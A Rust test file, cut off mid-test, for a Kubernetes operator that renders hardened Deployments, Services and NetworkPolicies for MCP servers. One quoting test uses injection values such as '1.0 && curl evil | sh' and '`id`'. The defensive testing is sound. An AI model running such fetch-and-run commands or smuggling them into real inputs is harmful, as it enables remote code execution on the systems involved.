//! The pure render, one behaviour per test, each in both directions: exact objects, exact
//! error messages.

use pretty_assertions::assert_eq;
use serde_json::{Value, json};

use super::*;
use crate::mcpserver::crd::MCPServer;
use crate::policy::{Policy, parse_str};
use crate::runtime_class::StaticRuntimeClasses;

const UID: &str = "0b6e3f52-5d7a-4c1e-9a43-1f2d3c4b5a69";

/// The default policy's hardening, for test policies that change something else.
const MUTATE: &str = "  mutate:
    podSecurityContext:
      runAsNonRoot: true
      runAsUser: 1000
      runAsGroup: 1000
      fsGroup: 1000
      seccompProfile: {type: RuntimeDefault}
    containerSecurityContext:
      allowPrivilegeEscalation: false
      runAsNonRoot: true
      runAsUser: 1000
      runAsGroup: 1000
      capabilities: {drop: [ALL]}
      seccompProfile: {type: RuntimeDefault}
    resources:
      requests: {memory: 400Mi}
    imagePullPolicy: always
    automountServiceAccountToken: remove
";

/// A policy named `test` enforcing on `mcp`, with `spec_tail` (YAML at spec indentation).
fn policy(spec_tail: &str) -> Policy {
    let text = format!(
        "apiVersion: mcpguard.dev/v1alpha1
kind: MCPPolicy
metadata: {{name: test}}
spec:
  namespaces: [mcp]
  podSecurity: {{level: restricted, version: latest}}
{spec_tail}"
    );
    parse_str(&text, "<test policy>").unwrap_or_else(|e| panic!("{e}\n{text}"))
}

fn default_policy() -> Policy {
    Policy::embedded_default().expect("embedded policy")
}

fn server_named(name: &str, spec: Value) -> MCPServer {
    serde_json::from_value(json!({
        "apiVersion": "mcpguard.dev/v1alpha1",
        "kind": "MCPServer",
        "metadata": {"name": name, "namespace": "mcp", "uid": UID},
        "spec": spec,
    }))
    .expect("a valid MCPServer")
}

fn server(spec: Value) -> MCPServer {
    server_named("x", spec)
}

fn render_with(
    policy: &Policy,
    server: &MCPServer,
    secrets: &[SecretVersion],
) -> Result<Rendered, RenderError> {
    render_with_config(policy, server, secrets, &[])
}

fn render_with_config(
    policy: &Policy,
    server: &MCPServer,
    secrets: &[SecretVersion],
    config_maps: &[SecretVersion],
) -> Result<Rendered, RenderError> {
    let classes = StaticRuntimeClasses::default();
    let context = Context {
        policy,
        runtime_classes: &classes,
        now: "2025-06-01T00:00:00Z".parse().expect("a timestamp"),
    };
    render(server, context, secrets, config_maps)
}

fn rendered(policy: &Policy, server: &MCPServer) -> Rendered {
    render_with(policy, server, &[]).unwrap_or_else(|e| panic!("render failed: {e:?}"))
}

fn render_default(spec: Value) -> Rendered {
    rendered(&default_policy(), &server(spec))
}

fn render_error(policy: &Policy, spec: Value) -> RenderError {
    match render_with(policy, &server(spec), &[]) {
        Ok(r) => panic!("expected an error, rendered {:#}", r.deployment),
        Err(e) => e,
    }
}

fn container(rendered: &Rendered) -> &Value {
    let containers = rendered.deployment["spec"]["template"]["spec"]["containers"]
        .as_array()
        .expect("containers");
    assert_eq!(containers.len(), 1, "{containers:#?}");
    &containers[0]
}

fn pod_spec(rendered: &Rendered) -> &Value {
    &rendered.deployment["spec"]["template"]["spec"]
}

fn secret(name: &str, uid: &str, resource_version: &str, keys: &[&str]) -> SecretVersion {
    SecretVersion {
        name: name.into(),
        uid: uid.into(),
        resource_version: resource_version.into(),
        keys: keys.iter().map(|k| (*k).to_owned()).collect(),
    }
}

fn labels() -> Value {
    json!({"app.kubernetes.io/name": "x", "app.kubernetes.io/managed-by": "mcpguard"})
}

fn metadata() -> Value {
    json!({
        "name": "x",
        "namespace": "mcp",
        "labels": labels(),
        "ownerReferences": [{
            "apiVersion": "mcpguard.dev/v1alpha1",
            "kind": "MCPServer",
            "name": "x",
            "uid": UID,
            "controller": true,
            "blockOwnerDeletion": true,
        }],
    })
}

fn hardened_container_security_context() -> Value {
    json!({
        "allowPrivilegeEscalation": false,
        "runAsNonRoot": true,
        "runAsUser": 1000,
        "runAsGroup": 1000,
        "capabilities": {"drop": ["ALL"]},
        "seccompProfile": {"type": "RuntimeDefault"},
    })
}

fn hardened_pod_security_context() -> Value {
    json!({
        "runAsNonRoot": true,
        "runAsUser": 1000,
        "runAsGroup": 1000,
        "fsGroup": 1000,
        "seccompProfile": {"type": "RuntimeDefault"},
    })
}

// ---------------------------------------------------------------------------------------
// Transports and runtimes

#[test]
fn an_image_with_streamable_http_runs_its_own_command_and_args() {
    let r = render_default(json!({
        "image": "ghcr.io/acme/mcp:1.0",
        "transport": "streamable-http",
        "command": ["/srv/mcp"],
        "args": ["serve", "--listen", ":8080"],
    }));
    let c = container(&r);
    assert_eq!(c["image"], "ghcr.io/acme/mcp:1.0");
    assert_eq!(c["command"], json!(["/srv/mcp"]));
    assert_eq!(c["args"], json!(["serve", "--listen", ":8080"]));
    assert_eq!(
        c["ports"],
        json!([{"name": "http", "containerPort": 8080, "protocol": "TCP"}])
    );
}

#[test]
fn an_image_with_sse_runs_its_own_command_and_args() {
    let r = render_default(json!({
        "image": "ghcr.io/acme/mcp:1.0",
        "transport": "sse",
        "port": 3001,
        "command": ["node", "server.js"],
        "args": ["--sse"],
    }));
    let c = container(&r);
    assert_eq!(c["image"], "ghcr.io/acme/mcp:1.0");
    assert_eq!(c["command"], json!(["node", "server.js"]));
    assert_eq!(c["args"], json!(["--sse"]));
    assert_eq!(
        c["ports"],
        json!([{"name": "http", "containerPort": 3001, "protocol": "TCP"}])
    );
}

#[test]
fn an_image_without_command_or_args_keeps_the_images_entrypoint() {
    let r = render_default(json!({"image": "ghcr.io/acme/mcp:1.0"}));
    let c = container(&r);
    assert!(c.get("command").is_none(), "{c:#}");
    assert!(c.get("args").is_none(), "{c:#}");
}

#[test]
fn an_image_with_stdio_is_an_invalid_spec() {
    assert_eq!(
        render_error(
            &default_policy(),
            json!({"image": "ghcr.io/acme/mcp:1.0", "transport": "stdio"})
        ),
        RenderError::Invalid(
            "an image with transport stdio runs behind mcpguard's bridge, which needs the policy's spec.mutate.bridgeImage (mcpguard's image, pinned by digest)".into()
        )
    );
}

#[test]
fn an_npx_package_runs_behind_supergateway_with_streamable_http() {
    let r = render_default(json!({
        "package": {"runtime": "npx", "name": "@scope/pkg", "version": "1.2.3"},
        "transport": "streamable-http",
        "args": ["--root", "/data dir", "it's", "$HOME"],
    }));
    let c = container(&r);
    assert_eq!(c["image"], "docker.io/library/node:22-bookworm-slim");
    assert_eq!(c["command"], json!(["npx"]));
    assert_eq!(
        c["args"],
        json!([
            "-y",
            "supergateway@4.0.0",
            "--stdio",
            r"npx -y @scope/pkg@1.2.3 --root '/data dir' 'it'\''s' '$HOME'",
            "--outputTransport",
            "streamableHttp",
            "--port",
            "8080",
        ])
    );
}

#[test]
fn an_npx_package_with_sse_bridges_to_sse_on_its_port() {
    let r = render_default(json!({
        "package": {"runtime": "npx", "name": "@scope/pkg", "version": "1.2.3"},
        "transport": "sse",
        "port": 3000,
    }));
    let c = container(&r);
    assert_eq!(
        c["args"],
        json!([
            "-y",
            "supergateway@4.0.0",
            "--stdio",
            "npx -y @scope/pkg@1.2.3",
            "--outputTransport",
            "sse",
            "--port",
            "3000",
        ])
    );
    assert_eq!(
        c["ports"],
        json!([{"name": "http", "containerPort": 3000, "protocol": "TCP"}])
    );
}

#[test]
fn a_stdio_package_is_bridged_to_streamable_http_and_an_unversioned_one_runs_latest() {
    let r = render_default(json!({
        "package": {"runtime": "npx", "name": "@scope/pkg"},
        "transport": "stdio",
    }));
    assert_eq!(
        container(&r)["args"],
        json!([
            "-y",
            "supergateway@4.0.0",
            "--stdio",
            "npx -y @scope/pkg",
            "--outputTransport",
            "streamableHttp",
            "--port",
            "8080",
        ])
    );
}

#[test]
fn the_npx_bridge_command_quotes_every_word_the_shell_would_split_or_expand() {
    let r = render_default(json!({
        "package": {"runtime": "npx", "name": "pkg", "version": "1.0 && curl evil | sh"},
        "args": ["", "a;b", "`id`", "plain-arg_1.2/x=y:z+w,v@u"],
    }));
    assert_eq!(
        container(&r)["args"][3],
        "npx -y 'pkg@1.0 && curl evil | sh' '' 'a;b' '`id`' plain-arg_1.2/x=y:z+w,v@u"
    );
}

#[test]
fn a_uvx_package_runs_behind_mcp_proxy() {
    let r = render_default(json!({
        "package": {"runtime": "uvx", "name": "pkg", "version": "1.2"},
        "port": 9000,
    }));
    let c = container(&r);
    assert_eq!(c["image"], "ghcr.io/astral-sh/uv:python3.12-bookworm-slim");
    assert_eq!(c["command"], json!(["uvx"]));
    // Without server args a `--` before the command is optional; it is not what this test is about.
    let args: Vec<&str> = c["args"]
        .as_array()
        .expect("args")
        .iter()
        .filter_map(Value::as_str)
        .filter(|a| *a != "--")
        .collect();
    assert_eq!(
        args,
        [
            "mcp-proxy@0.13.0",
            "--host=0.0.0.0",
            "--port=9000",
            "--pass-environment",
            "uvx",
            "pkg==1.2",
        ]
    );
}

/// mcp-proxy parses its options anywhere on its command line (argparse): server args that
/// look like options must come after a `--`, as mcp-proxy's README requires, or mcp-proxy
/// takes `--port 9000` as its own port (or exits on an option it does not know).
#[test]
fn uvx_server_args_are_separated_from_mcp_proxys_own_options() {
    let r = render_default(json!({
        "package": {"runtime": "uvx", "name": "pkg", "version": "1.2"},
        "args": ["--port", "9000", "--allowed-dir=/data"],
    }));
    assert_eq!(
        container(&r)["args"],
        json!([
            "mcp-proxy@0.13.0",
            "--host=0.0.0.0",
            "--port=8080",
            "--pass-environment",
            "--",
            "uvx",
            "pkg==1.2",
            "--port",
            "9000",
            "--allowed-dir=/data",
        ])
    );
}

#[test]
fn runtime_images_come_from_the_policy() {
    let custom = policy(&format!(
        "{MUTATE}    packageRuntimeImages: {{npx: registry.example.com/node:22, uvx: registry.example.com/uv:0.8}}\n"
    ));
    let npx = server(json!({"package": {"runtime": "npx", "name": "pkg"}}));
    let uvx = server(json!({"package": {"runtime": "uvx", "name": "pkg"}}));
    assert_eq!(
        container(&rendered(&custom, &npx))["image"],
        "registry.example.com/node:22"
    );
    assert_eq!(
        container(&rendered(&custom, &uvx))["image"],
        "registry.example.com/uv:0.8"
    );
    // A policy that names no images gets the defaults.
    let unset = policy(MUTATE);
    assert_eq!(
        container(&rendered(&unset, &npx))["image"],
        "docker.io/library/node:22-bookworm-slim"
    );
    assert_eq!(
        container(&rendered(&unset, &uvx))["image"],
        "ghcr.io/astral-sh/uv:python3.12-bookworm-slim"
    );
}

#[test]
fn packages_get_a_writable_home_and_cache_on_a_tmp_emptydir() {
    for runtime in ["npx", "uvx"] {
        let r = render_default(json!({
            "package": {"runtime": runtime, "name": "pkg"},
            "env": [{"name": "LOG_LEVEL", "value": "info"}],
        }));
        let c = container(&r);
        assert_eq!(
            c["env"],
            json!([
                {"name": "LOG_LEVEL", "value": "info"},
                {"name": "HOME", "value": "/tmp"},
                {"name": "NPM_CONFIG_CACHE", "value": "/tmp/.npm"},
                {"name": "UV_CACHE_DIR", "value": "/tmp/.uv-cache"},
            ]),
            "{runtime}"
        );
        assert_eq!(
            c["volumeMounts"],
            json!([{"name": "tmp", "mountPath": "/tmp"}]),
            "{runtime}"
        );
        assert_eq!(
            pod_spec(&r)["volumes"],
            json!([{"name": "tmp", "emptyDir": {}}]),
            "{runtime}"
        );
    }
}

#[test]
fn images_get_no_home_override_and_no_tmp_volume() {
    let r = render_default(json!({
        "image": "ghcr.io/acme/mcp:1.0",
        "env": [{"name": "LOG_LEVEL", "value": "info"}],
    }));
    let c = container(&r);
    assert_eq!(c["env"], json!([{"name": "LOG_LEVEL", "value": "info"}]));
    assert!(c.get("volumeMounts").is_none(), "{c:#}");
    assert!(pod_spec(&r).get("volumes").is_none(), "{:#}", pod_spec(&r));
    let bare = render_default(json!({"image": "ghcr.io/acme/mcp:1.0"}));
    assert!(container(&bare).get("env").is_none(), "{bare:#?}");
}

/// Two `files` entries naming the same Secret mount two volumes at one path, which the API
/// server refuses ("must be unique"): the render must refuse the spec (or mount it once)
/// rather than hand the reconciler a Deployment that can never be applied.
#[test]
fn the_same_secret_listed_twice_in_files_is_mounted_once() {
    let result = render_with(
        &default_policy(),
        &server(json!({
            "image": "ghcr.io/acme/mcp:1.0",
            "files": [{"secretRef": {"name": "ca"}}, {"secretRef": {"name": "ca"}}],
        })),
        &[],
    );
    if let Ok(r) = result {
        let paths: Vec<&str> = container(&r)["volumeMounts"]
            .as_array()
            .expect("volumeMounts")
            .iter()
            .filter_map(|m| m["mountPath"].as_str())
            .collect();
        let mut unique = paths.clone();
        unique.sort();
        unique.dedup();
        assert_eq!(paths.len(), unique.len(), "duplicate mountPath: {paths:?}");
    }
}

#[test]
fn image_and_package_together_or_neither_are_invalid() {
    assert_eq!(
        render_error(
            &default_policy(),
            json!({"image": "ghcr.io/acme/mcp:1.0", "package": {"runtime": "npx", "name": "pkg"}})
        ),
        RenderError::Invalid("set either image or package, not both".into())
    );
    assert_eq!(
        render_error(&default_policy(), json!({"port": 8080})),
        RenderError::Invalid("set image or package".into())
    );
}

// ---------------------------------------------------------------------------------------
// Secrets

fn secret_server() -> MCPServer {
    server(json!({
        "image": "ghcr.io/acme/mcp:1.0",
        "env": [{"name": "LOG_LEVEL", "value": "debug"}],
        "secretEnv": [
            {"name": "GITHUB_TOKEN", "secretKeyRef": {"name": "github", "key": "token"}},
            {"name": "GITHUB_APP_KEY", "secretKeyRef": {"name": "github", "key": "app-key"}},
        ],
        "envFrom": [{"secretRef": {"name": "openai"}}],
        "files": [{"secretRef": {"name": "kubeconfig"}}, {"secretRef": {"name": "ca-bundle"}}],
    }))
}

fn secret_server_secrets() -> Vec<SecretVersion> {
    vec![
        secret("github", "uid-github", "101", &["token", "app-key"]),
        secret("openai", "uid-openai", "202", &["OPENAI_API_KEY"]),
        secret("kubeconfig", "uid-kubeconfig", "303", &["config"]),
        secret("ca-bundle", "uid-ca", "404", &["ca.crt"]),
    ]
}

#[test]
fn secrets_are_wired_as_secret_key_refs_env_from_and_read_only_file_volumes() {
    let secrets = secret_server_secrets();
    let r = render_with(&default_policy(), &secret_server(), &secrets).expect("renders");
    let c = container(&r);
    assert_eq!(
        c["env"],
        json!([
            {"name": "LOG_LEVEL", "value": "debug"},
            {"name": "GITHUB_TOKEN", "valueFrom": {"secretKeyRef": {"name": "github", "key": "token"}}},
            {"name": "GITHUB_APP_KEY", "valueFrom": {"secretKeyRef": {"name": "github", "key": "app-key"}}},
        ])
    );
    assert_eq!(c["envFrom"], json!([{"secretRef": {"name": "openai"}}]));
    assert_eq!(
        c["volumeMounts"],
        json!([
            {"name": "files-0", "mountPath": "/files/kubeconfig", "readOnly": true},
            {"name": "files-1", "mountPath": "/files/ca-bundle", "readOnly": true},
        ])
    );
    assert_eq!(
        pod_spec(&r)["volumes"],
        json!([
            {"name": "files-0", "secret": {"secretName": "kubeconfig"}},
            {"name": "files-1", "secret": {"secretName": "ca-bundle"}},
        ])
    );
    assert_eq!(
        r.deployment["spec"]["template"]["metadata"]["annotations"],
        json!({"mcpguard.dev/secrets-hash": secrets_hash(&secrets)})
    );
}

#[test]
fn a_server_without_secrets_has_no_envfrom_and_no_secrets_hash() {
    let r = render_default(json!({"image": "ghcr.io/acme/mcp:1.0"}));
    assert!(container(&r).get("envFrom").is_none());
    let template_metadata = &r.deployment["spec"]["template"]["metadata"];
    assert!(
        template_metadata
            .pointer("/annotations/mcpguard.dev~1secrets-hash")
            .is_none(),
        "{template_metadata:#}"
    );
}

#[test]
fn referenced_secrets_lists_secret_env_then_env_from_then_files() {
    assert_eq!(
        referenced_secrets(&secret_server()),
        vec![
            ("github".to_owned(), Some("token".to_owned())),
            ("github".to_owned(), Some("app-key".to_owned())),
            ("openai".to_owned(), None),
            ("kubeconfig".to_owned(), None),
            ("ca-bundle".to_owned(), None),
        ]
    );
    assert_eq!(
        referenced_secrets(&server(json!({"image": "ghcr.io/acme/mcp:1.0"}))),
        vec![]
    );
}

#[test]
fn missing_secrets_names_each_missing_secret_once_and_each_missing_key() {
    let server = secret_server();
    assert_eq!(
        missing_secrets(&server, &[]),
        vec![
            r#"Secret "github" not found"#.to_owned(),
            r#"Secret "openai" not found"#.to_owned(),
            r#"Secret "kubeconfig" not found"#.to_owned(),
            r#"Secret "ca-bundle" not found"#.to_owned(),
        ]
    );
    let partial = vec![
        secret("github", "uid-github", "101", &["token"]),
        secret("openai", "uid-openai", "202", &[]),
        secret("ca-bundle", "uid-ca", "404", &[]),
    ];
    assert_eq!(
        missing_secrets(&server, &partial),
        vec![
            r#"Secret "github" has no key "app-key""#.to_owned(),
            r#"Secret "kubeconfig" not found"#.to_owned(),
        ]
    );
    assert_eq!(
        missing_secrets(&server, &secret_server_secrets()),
        Vec::<String>::new()
    );
}

#[test]
fn secrets_hash_is_32_hex_chars_stable_under_reordering() {
    let secrets = secret_server_secrets();
    let hash = secrets_hash(&secrets);
    assert_eq!(hash.len(), 32, "{hash}");
    assert!(
        hash.chars()
            .all(|c| c.is_ascii_digit() || ('a'..='f').contains(&c)),
        "{hash}"
    );
    let mut reversed = secrets.clone();
    reversed.reverse();
    assert_eq!(secrets_hash(&reversed), hash);
    let mut rotated = secrets.clone();
    rotated.rotate_left(1);
    assert_eq!(secrets_hash(&rotated), hash);
}

#[test]
fn secrets_hash_changes_when_a_uid_or_resource_version_changes() {
    let secrets = secret_server_secrets();
    let hash = secrets_hash(&secrets);
    let mut new_uid = secrets.clone();
    new_uid[1].uid = "uid-openai-recreated".into();
    let mut new_version = secrets.clone();
    new_version[2].resource_version = "304".into();
    let mut fewer = secrets.clone();
    fewer.pop();
    let hashes = [
        hash.clone(),
        secrets_hash(&new_uid),
        secrets_hash(&new_version),
        secrets_hash(&fewer),
    ];
    for (i, a) in hashes.iter().enumerate() {
        for b in &hashes[i + 1..] {
            assert_ne!(a, b);
        }
    }
    // Keys are not part of it: the pods read the data, the hash only rolls them.
    let mut new_keys = secrets.clone();
    new_keys[0].keys.push("extra".into());
    assert_eq!(secrets_hash(&new_keys), hash);
    // And a changed Secret changes the pod template.
    let before = render_with(&default_policy(), &secret_server(), &secrets).expect("renders");
    let after = render_with(&default_policy(), &secret_server(), &new_version).expect("renders");
    assert_ne!(
        before.deployment["spec"]["template"],
        after.deployment["spec"]["template"]
    );
    assert_eq!(
        after.deployment["spec"]["template"]["metadata"]["annotations"]["mcpguard.dev/secrets-hash"],
        secrets_hash(&new_version)
    );
}

// ---------------------------------------------------------------------------------------
// Replicas, resources, port

#[test]
fn replicas_are_kept_and_negative_is_invalid() {
    for replicas in [0, 3] {
        let r = render_default(json!({"image": "ghcr.io/acme/mcp:1.0", "replicas": replicas}));
        assert_eq!(r.deployment["spec"]["replicas"], replicas);
    }
    let r = render_default(json!({"image": "ghcr.io/acme/mcp:1.0"}));
    assert_eq!(r.deployment["spec"]["replicas"], 1);
    assert_eq!(
        render_error(
            &default_policy(),
            json!({"image": "ghcr.io/acme/mcp:1.0", "replicas": -1})
        ),
        RenderError::Invalid("replicas -1 is not between 0 and 1000".into())
    );
}

#[test]
fn resources_are_kept_and_the_policy_default_fills_what_is_absent() {
    let r = render_default(json!({
        "image": "ghcr.io/acme/mcp:1.0",
        "resources": {"requests": {"cpu": "100m"}, "limits": {"cpu": "1"}},
    }));
    assert_eq!(
        container(&r)["resources"],
        json!({"requests": {"cpu": "100m", "memory": "400Mi"}, "limits": {"cpu": "1"}})
    );
    let explicit = render_default(json!({
        "image": "ghcr.io/acme/mcp:1.0",
        "resources": {"requests": {"cpu": "250m", "memory": "128Mi"}, "limits": {"memory": "256Mi"}},
    }));
    assert_eq!(
        container(&explicit)["resources"],
        json!({"requests": {"cpu": "250m", "memory": "128Mi"}, "limits": {"memory": "256Mi"}})
    );
    let absent = render_default(json!({"image": "ghcr.io/acme/mcp:1.0"}));
    assert_eq!(
        container(&absent)["resources"],
        json!({"requests": {"memory": "400Mi"}})
    );
}

#[test]
fn a_port_outside_1_to_65535_is_invalid() {
    for port in [0, -1, 65536] {
        assert_eq!(
            render_error(
                &default_policy(),
                json!({"image": "ghcr.io/acme/mcp:1.0", "port": port})
            ),
            RenderError::Invalid(format!("port {port} is not a TCP port"))
        );
    }
    for port in [1, 65535] {
        let r = render_default(json!({"image": "ghcr.io/acme/mcp:1.0", "port": port}));
        assert_eq!(container(&r)["ports"][0]["containerPort"], port);
    }
}

// ---------------------------------------------------------------------------------------
// The whole objects

#[test]
fn the_pod_template_is_hardened_by_the_default_policy() {
    let r = render_default(json!({"package": {"runtime": "npx", "name": "pkg"}}));
    let spec = pod_spec(&r);
    assert_eq!(spec["securityContext"], hardened_pod_security_context());
    assert_eq!(spec["automountServiceAccountToken"], false);
    let c = container(&r);
    assert_eq!(c["securityContext"], hardened_container_security_context());
    assert_eq!(c["imagePullPolicy"], "Always");
    assert_eq!(c["name"], "mcp");
}

#[test]
fn a_policy_runtime_class_is_set_on_the_pod_template() {
    let gvisor = policy(&format!(
        "{MUTATE}    runtimeClassName: gvisor\n  validate:\n    requireRuntimeClass: true\n"
    ));
    let r = rendered(&gvisor, &server(json!({"image": "ghcr.io/acme/mcp:1.0"})));
    assert_eq!(pod_spec(&r)["runtimeClassName"], "gvisor");
    let r = render_default(json!({"image": "ghcr.io/acme/mcp:1.0"}));
    assert!(pod_spec(&r).get("runtimeClassName").is_none());
}

#[test]
fn the_deployment_of_an_image_server_is_exactly_this() {
    let r = render_default(json!({
        "image": "ghcr.io/acme/mcp:1.0",
        "args": ["--http"],
        "env": [{"name": "LOG_LEVEL", "value": "info"}],
        "replicas": 2,
    }));
    assert_eq!(
        r.deployment,
        json!({
            "apiVersion": "apps/v1",
            "kind": "Deployment",
            "metadata": metadata(),
            "spec": {
                "replicas": 2,
                "selector": {"matchLabels": labels()},
                "template": {
                    "metadata": {"labels": labels(), "annotations": {}},
                    "spec": {
                        "automountServiceAccountToken": false,
                        "securityContext": hardened_pod_security_context(),
                        "containers": [{
                            "name": "mcp",
                            "image": "ghcr.io/acme/mcp:1.0",
                            "imagePullPolicy": "Always",
                            "args": ["--http"],
                            "ports": [{"name": "http", "containerPort": 8080, "protocol": "TCP"}],
                            "env": [{"name": "LOG_LEVEL", "value": "info"}],
                            "readinessProbe": {
                                "tcpSocket": {"port": "http"},
                                "periodSeconds": 5,
                                "failureThreshold": 3,
                            },
                            "resources": {"requests": {"memory": "400Mi"}},
                            "securityContext": hardened_container_security_context(),
                        }],
                        // Two replicas: spread over nodes where the scheduler can.
                        "topologySpreadConstraints": [{
                            "maxSkew": 1,
                            "topologyKey": "kubernetes.io/hostname",
                            "whenUnsatisfiable": "ScheduleAnyway",
                            "labelSelector": {"matchLabels": labels()},
                        }],
                    },
                },
            },
        })
    );
    assert_eq!(r.warnings, Vec::<String>::new());
    assert_eq!(r.url, "http://x.mcp.svc.cluster.local");
}

#[test]
fn the_service_is_exactly_this() {
    let r = render_default(json!({"image": "ghcr.io/acme/mcp:1.0", "port": 3000}));
    assert_eq!(
        r.service,
        json!({
            "apiVersion": "v1",
            "kind": "Service",
            "metadata": metadata(),
            "spec": {
                "type": "ClusterIP",
                "selector": labels(),
                "ports": [{"name": "http", "port": 80, "targetPort": "http", "protocol": "TCP"}],
            },
        })
    );
}

#[test]
fn service_url_names_the_server_in_its_namespace() {
    let mut other = server_named("github", json!({"image": "ghcr.io/acme/mcp:1.0"}));
    assert_eq!(service_url(&other), "http://github.mcp.svc.cluster.local");
    other.metadata.namespace = Some("tools".into());
    assert_eq!(service_url(&other), "http://github.tools.svc.cluster.local");
}

// ---------------------------------------------------------------------------------------
// NetworkPolicy

fn default_dns_egress() -> Value {
    json!({
        "to": [{
            "namespaceSelector": {"matchLabels": {"kubernetes.io/metadata.name": "kube-system"}},
            "podSelector": {"matchLabels": {"k8s-app": "kube-dns"}},
        }],
        "ports": [{"protocol": "UDP", "port": 53}, {"protocol": "TCP", "port": 53}],
    })
}

/// The `public` profile: the internet minus every block IANA marks not globally reachable
/// (the globally reachable ones inside them, such as 192.0.0.9/32 and 2001:4:112::/48, stay
/// open), multicast, NAT64 and site-local. IPv4 is written out by hand; the IPv6 list (about
/// 150 blocks, most of them carving 2001::/23) is checked block by block against the IANA
/// registry in tests/egress_iana.rs and in `egress`'s own tests.
fn internet_egress() -> Value {
    json!({"to": [
        {"ipBlock": {"cidr": "0.0.0.0/0", "except": [
            "0.0.0.0/8", "10.0.0.0/8", "100.64.0.0/10", "127.0.0.0/8", "169.254.0.0/16",
            "172.16.0.0/12", "192.0.0.0/29", "192.0.0.8/32", "192.0.0.11/32", "192.0.0.12/30",
            "192.0.0.16/28", "192.0.0.32/27", "192.0.0.64/26", "192.0.0.128/25", "192.0.2.0/24",
            "192.88.99.2/32", "192.168.0.0/16", "198.18.0.0/15", "198.51.100.0/24",
            "203.0.113.0/24", "224.0.0.0/4", "240.0.0.0/4",
        ]}},
        {"ipBlock": {"cidr": "::/0", "except": crate::egress::public_except(true)}},
    ]})
}

fn clients(namespaces: &[&str]) -> Value {
    json!({"namespaceSelector": {"matchExpressions": [
        {"key": "kubernetes.io/metadata.name", "operator": "In", "values": namespaces}
    ]}})
}

fn network_policy_of(r: &Rendered) -> &Value {
    r.network_policy.as_ref().expect("a NetworkPolicy")
}

#[test]
fn the_default_network_policy_is_exactly_this() {
    let r = render_default(json!({"image": "ghcr.io/acme/mcp:1.0", "port": 3000}));
    assert_eq!(
        network_policy_of(&r),
        &json!({
            "apiVersion": "networking.k8s.io/v1",
            "kind": "NetworkPolicy",
            "metadata": metadata(),
            "spec": {
                "podSelector": {"matchLabels": labels()},
                "policyTypes": ["Ingress", "Egress"],
                "ingress": [{
                    "from": [clients(&["mcp-clients"])],
                    "ports": [{"protocol": "TCP", "port": 3000}],
                }],
                "egress": [default_dns_egress(), internet_egress()],
            },
        })
    );
}

#[test]
fn custom_client_namespaces_dns_and_gateway_peers_replace_the_defaults() {
    let custom = policy(&format!(
        "{MUTATE}  network:
    clientNamespaces: [agents, ide]
    dnsPeers: [{{ipBlock: {{cidr: 169.254.20.10/32}}}}]
    gatewayPeers:
      - namespaceSelector: {{matchLabels: {{kubernetes.io/metadata.name: egress}}}}
        podSelector: {{matchLabels: {{app: squid}}}}
"
    ));
    let r = rendered(&custom, &server(json!({"image": "ghcr.io/acme/mcp:1.0"})));
    let spec = &network_policy_of(&r)["spec"];
    assert_eq!(
        spec["ingress"],
        json!([{"from": [clients(&["agents", "ide"])], "ports": [{"protocol": "TCP", "port": 8080}]}])
    );
    assert_eq!(
        spec["egress"],
        json!([
            {
                "to": [{"ipBlock": {"cidr": "169.254.20.10/32"}}],
                "ports": [{"protocol": "UDP", "port": 53}, {"protocol": "TCP", "port": 53}],
            },
            {"to": [{
                "namespaceSelector": {"matchLabels": {"kubernetes.io/metadata.name": "egress"}},
                "podSelector": {"matchLabels": {"app": "squid"}},
            }]},
            internet_egress(),
        ])
    );
}

fn extras_policy() -> Policy {
    policy(&format!(
        "{MUTATE}  network:
    allowedExtraPeers:
      - namespaceSelector: {{matchLabels: {{kubernetes.io/metadata.name: monitoring}}}}
      - ipBlock: {{cidr: 10.20.0.0/16}}
"
    ))
}

#[test]
fn extra_peers_listed_in_the_policy_are_admitted() {
    let r = rendered(
        &extras_policy(),
        &server(json!({
            "image": "ghcr.io/acme/mcp:1.0",
            "network": {
                "ingressFrom": [{"namespaceSelector": {"matchLabels": {"kubernetes.io/metadata.name": "monitoring"}}}],
                "egressTo": [{"ipBlock": {"cidr": "10.20.0.0/16"}}],
            },
        })),
    );
    let spec = &network_policy_of(&r)["spec"];
    assert_eq!(
        spec["ingress"],
        json!([{
            "from": [
                clients(&["mcp-clients"]),
                {"namespaceSelector": {"matchLabels": {"kubernetes.io/metadata.name": "monitoring"}}},
            ],
            "ports": [{"protocol": "TCP", "port": 8080}],
        }])
    );
    assert_eq!(
        spec["egress"],
        json!([
            default_dns_egress(),
            internet_egress(),
            {"to": [{"ipBlock": {"cidr": "10.20.0.0/16"}}]},
        ])
    );
}

#[test]
fn extra_peers_not_listed_in_the_policy_are_refused() {
    let metadata_endpoint = render_error(
        &extras_policy(),
        json!({
            "image": "ghcr.io/acme/mcp:1.0",
            "network": {"egressTo": [{"ipBlock": {"cidr": "169.254.169.254/32"}}]},
        }),
    );
    assert_eq!(
        metadata_endpoint,
        RenderError::PeerNotAllowed(
            r#"network.egressTo peer {"ipBlock":{"cidr":"169.254.169.254/32"}} is not among the policy's spec.network.allowedExtraPeers"#.into()
        )
    );
    let everyone = render_error(
        &extras_policy(),
        json!({
            "image": "ghcr.io/acme/mcp:1.0",
            "network": {"ingressFrom": [{"namespaceSelector": {}}]},
        }),
    );
    assert_eq!(
        everyone,
        RenderError::PeerNotAllowed(
            r#"network.ingressFrom peer {"namespaceSelector":{}} is not among the policy's spec.network.allowedExtraPeers"#.into()
        )
    );
    // The default policy allows no extras at all.
    assert_eq!(
        render_error(
            &default_policy(),
            json!({
                "image": "ghcr.io/acme/mcp:1.0",
                "network": {"egressTo": [{"ipBlock": {"cidr": "10.20.0.0/16"}}]},
            })
        ),
        RenderError::PeerNotAllowed(
            r#"network.egressTo peer {"ipBlock":{"cidr":"10.20.0.0/16"}} is not among the policy's spec.network.allowedExtraPeers"#.into()
        )
    );
}

fn egress_policy(network: &str) -> Policy {
    policy(&format!("{MUTATE}  network:\n{network}"))
}

fn egress_of(policy: &Policy, spec: Value) -> Value {
    network_policy_of(&rendered(policy, &server(spec)))["spec"]["egress"].clone()
}

#[test]
fn each_egress_profile_renders_exactly_its_rules() {
    let open = egress_policy("    maxEgress: public\n");
    let image =
        |profile: &str| json!({"image": "ghcr.io/acme/mcp:1.0", "network": {"egress": profile}});
    assert_eq!(egress_of(&open, image("none")), json!([]));
    assert_eq!(
        egress_of(&open, image("dns-only")),
        json!([default_dns_egress()])
    );
    assert_eq!(
        egress_of(&open, image("public")),
        json!([default_dns_egress(), internet_egress()])
    );
    // No profile named: the policy's default, `public` unless it says otherwise.
    assert_eq!(
        egress_of(&open, json!({"image": "ghcr.io/acme/mcp:1.0"})),
